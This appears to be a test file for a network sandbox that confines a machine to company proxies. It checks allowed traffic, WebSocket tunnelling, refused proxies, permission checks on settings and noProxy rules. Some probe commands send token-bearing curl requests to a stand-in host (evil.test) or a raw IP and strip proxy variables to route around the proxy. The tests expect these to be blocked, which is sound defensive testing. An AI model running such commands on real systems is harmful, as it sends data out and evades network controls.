// Companies' proxies: a machine that reaches nothing but them and knows no names, and one that knows names and goes around its proxy for some.
import assert from "node:assert/strict";
import { copyFile, readFile } from "node:fs/promises";
import path from "node:path";
import { after, before, test } from "node:test";
import { tablePolicy } from "../fixtures/internet/egress-cases.ts";
import { configureNetwork, type Gloved, makeGloved } from "../fixtures/internet/gloved.ts";
import { type Internet, openInternet } from "../fixtures/internet/internet.ts";
import { hosts, proxies } from "../fixtures/internet/places.ts";

const resources = new AsyncDisposableStack();
/** Its only route leads to the proxies, and it has no resolver. */
let lonely: Gloved;
let lonelyInternet: Internet;

before(async () => {
  lonelyInternet = await openInternet(resources, {
    resolver: "none",
    onlyRoute: proxies.address,
    extras: ["squid", "tinyproxy", "socks", "dante"],
  });
  lonely = await makeGloved(lonelyInternet, tablePolicy);
  await copyFile(lonelyInternet.authority, path.join(lonely.project, "authority.pem"));
});
after(() => resources.disposeAsync());

const who = `${proxies.user}:${encodeURIComponent(proxies.password)}@`;
const { address } = proxies;
const squid = `http://${who}${address}:${proxies.squid}`;

const curl = `curl -sS --max-time 60 --cacert authority.pem -o out -w '%{http_code}:%{http_connect} '`;
const captured = `env -u http_proxy -u https_proxy -u all_proxy -u HTTP_PROXY -u HTTPS_PROXY -u ALL_PROXY ${curl}`;
/** One word for each: by the proxy variables and captured, with TLS and without; a body that comes back counted; then what no rule allows. */
const everyWay = [
  `${curl} https://api.example.com/TOKEN-1`,
  `${curl} http://api.example.com/TOKEN-2?x=1`,
  `${captured} https://api.example.com/TOKEN-3`,
  `${captured} http://api.example.com/TOKEN-4`,
  `${captured} --socks5-hostname 198.18.0.1:1080 https://api.example.com/TOKEN-5`,
  `${captured} --data-binary xyz http://api.example.com/upload && cat out`,
  `${curl} https://evil.test/TOKEN`,
  `${curl} http://evil.test/TOKEN`,
  `${captured} http://93.66.0.1/TOKEN`,
].join("; ");
const everyAnswer = "200:200 200:000 200:000 200:000 200:000 200:000 3 bytes\n000:403 403:000 000:000 ";

const run = (gloved: Gloved, script: string) => gloved.run(["/bin/sh", "-c", script]);
const arrivedPaths = (internet: Internet, token: string): readonly string[] =>
  internet.arrivals.flatMap((arrival) => (arrival.kind === "http" && arrival.url.includes(token) ? [arrival.url] : [])).toSorted();

const upstreams: readonly (readonly [string, string])[] = [
  ["an HTTP proxy", `http://${address}:${proxies.tinyproxy}`],
  ["an HTTP proxy that wants a password", squid],
  ["an HTTPS proxy whose certificate the settings trust", `https://${who}${proxies.name}:${proxies.squidTls}`],
  ["a SOCKS5 proxy that anybody may use", `socks5://${address}:${proxies.dante}`],
  ["a SOCKS5 proxy that wants a password", `socks5://${who}${address}:${proxies.socks}`],
];

for (const [index, [what, proxy]] of upstreams.entries())
  test(`${what} carries what the rules allow, plain requests and TLS, and is asked for nothing else`, async () => {
    await configureNetwork(lonelyInternet, { proxy, authorities: lonelyInternet.authority });
    const token = `up${index}`;
    const { stdout, stderr } = await run(lonely, everyWay.replaceAll("TOKEN", token));
    assert.equal(stdout, everyAnswer, stderr);
    const paths = ["-1", "-2?x=1", "-3", "-4", "-5"].map((end) => `/${token}${end}`);
    assert.deepEqual(arrivedPaths(lonelyInternet, token), paths);
  });

test("no proxy was asked for a place that the rules do not allow", async () => {
  const log = await readFile(path.join(lonelyInternet.directory, "squid/access.log"), "utf8");
  assert.match(log, / CONNECT api\.example\.com:443 worker /u);
  assert.match(log, / GET http:\/\/api\.example\.com\/up1-4 worker /u);
  assert.doesNotMatch(log, /evil|93\.66|CONNECT \S+:80 /u);
  const dante = await readFile(path.join(lonelyInternet.directory, "danted.log"), "utf8");
  const asked = [...dante.matchAll(/ -> \S+ (?<place>\S+)\.\d+$/gmu)].map(({ groups }) => groups?.["place"] ?? "");
  assert.ok(asked.length > 0 && asked.every((place) => hosts["api.example.com"]?.includes(place)), dante);
  assert.ok(!lonelyInternet.arrivals.some((arrival) => arrival.kind === "http" && arrival.host === "evil.test"));
});

/** A WebSocket to each port, captured and by the gate's own proxy: the server's first word, and what comes back of what is sent. */
const chat = `
import socket, sys
def chat(connection, target, port):
    connection.settimeout(60)
    head = "GET %s HTTP/1.1\\r\\nHost: api.example.com:%d\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Version: 13\\r\\n"
    head += "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\n\\r\\n"
    connection.sendall((head % (target, port)).encode())
    answer = b""
    while b"\\r\\n\\r\\n" not in answer and (got := connection.recv(4096)): answer += got
    status = answer[9:12].decode()
    if status != "101": return status
    connection.sendall(b"frame")
    return status + " " + connection.recv(5).decode()
for port in map(int, sys.argv[2:]):
    target = "/" + sys.argv[1]
    for place, asked in ((("api.example.com", port), target), (("198.18.0.1", 3128), "http://api.example.com:%d%s" % (port, target))):
        with socket.create_connection(place, 60) as connection:
            try: print(chat(connection, asked, port), flush=True)
            except OSError: print("ended", flush=True)
`;
const chatRules = "egress: [{id: chat, hosts: [api.example.com], ports: [80, 8080], protocols: [ws], verdict: allow}]";

test("a WebSocket passes a proxy in a tunnel, where it makes one, and not as a request", async () => {
  const gloved = await makeGloved(lonelyInternet, chatRules, "chat");
  const echoed = "101 frame\n101 frame\n";
  // A captured connection has asked for nothing yet that could be answered.
  const refused = "ended\n502\n";
  const rows: readonly (readonly [string, string, string])[] = [
    ["squid", squid, `${echoed}${refused}`],
    ["dante", `socks5://${address}:${proxies.dante}`, `${echoed}${echoed}`],
  ];
  for (const [token, proxy, expected] of rows) {
    await configureNetwork(lonelyInternet, { proxy });
    const { stdout, stderr } = await gloved.run(["/usr/bin/python3", "-c", chat, `chat-${token}`, "8080", "80"]);
    assert.equal(stdout, expected, `${token}: ${stderr}`);
    const count = token === "dante" ? 4 : 2;
    assert.equal(arrivedPaths(lonelyInternet, `chat-${token}`).length, count, token);
  }
  const log = await readFile(path.join(lonelyInternet.directory, "squid/access.log"), "utf8");
  assert.match(log, / CONNECT api\.example\.com:8080 worker /u);
  assert.doesNotMatch(log, /chat-squid/u);
});

test("the record says that nobody here checked an address which only the proxy knows", async () => {
  await configureNetwork(lonelyInternet, { proxy: squid });
  const { stderr } = await lonelyInternet.onMachine(
    lonely.words(["/bin/sh", "-c", `${captured} https://api.example.com/recorded`]).map((word) => (word === "--quiet" ? "--sheet" : word)),
    { environment: lonely.environment },
  );
  const task = /task (t-[\da-f-]+)/u.exec(stderr)?.[1];
  assert.ok(task !== undefined, stderr);
  const { stdout } = await lonely.glovebox("explain", task, "--lang", "en");
  assert.match(stdout, /api\.example\.com port 443 as https, whose address only your proxy knows and nobody checked/u, stderr);
});

test("a proxy that refuses us ends the connection, its answer stays outside, and nothing goes around it", async () => {
  const wrong = [
    `http://${address}:${proxies.squid}`,
    `https://${who}${proxies.name}:${proxies.squidTls}`,
    `socks5://${address}:${proxies.socks}`,
  ];
  for (const proxy of wrong) {
    // Without `authorities` nobody vouches for the proxy's own certificate.
    await configureNetwork(lonelyInternet, { proxy });
    const { stdout } = await run(lonely, `${curl} https://api.example.com/none; ${curl} http://api.example.com/none; grep -c squid out`);
    assert.equal(stdout.replace(/0\n$/u, ""), "000:502 502:000 ", proxy);
  }
  assert.deepEqual(arrivedPaths(lonelyInternet, "none"), []);
});

test("settings that others may write, or that say nothing clear, refuse the run", async () => {
  const rows: readonly (readonly [number, object, number?])[] = [
    [125, { proxy: squid }, 0o666],
    [2, { proxy: "proxy:3128" }],
    [2, { proxy: squid, authorities: "/nowhere.pem" }],
    [2, { proxy: squid, unknown: 1 }],
  ];
  for (const [expected, settings, mode] of rows) {
    await configureNetwork(lonelyInternet, settings, mode);
    const { code, stdout } = await run(lonely, "echo ran");
    assert.equal(`${code} ${stdout}`, `${expected} `, JSON.stringify(settings));
  }
});

test("noProxy leaves the proxy out for names and for ranges of addresses, and addresses that are not public stay refused", async () => {
  await using own = new AsyncDisposableStack();
  const internet = await openInternet(own, { extras: ["squid"] });
  const gloved = await makeGloved(internet, tablePolicy);
  await copyFile(internet.authority, path.join(gloved.project, "authority.pem"));
  await configureNetwork(internet, { proxy: squid, noProxy: [".b.pkg.example.org", "93.10.1.4/30", "2a00:10:1::/48"] });
  const hosts = ["api.example.com", "a.b.pkg.example.org", "only4.pkg.example.org", "only6.pkg.example.org", "mixed.pkg.example.org"];
  const capture = await internet.capture();
  const { stdout, stderr } = await run(gloved, hosts.map((host) => `${curl} https://${host}/`).join("; "));
  assert.equal(stdout, "200:200 200:200 200:200 200:200 000:403 ", stderr);
  const reached = new Set((await capture.stop()).filter(({ protocol }) => protocol === "tcp").map((packet) => packet.address));
  assert.deepEqual([...reached].toSorted(), ["2a00:10:1::6", "93.10.1.2", "93.10.1.6", address]);
});
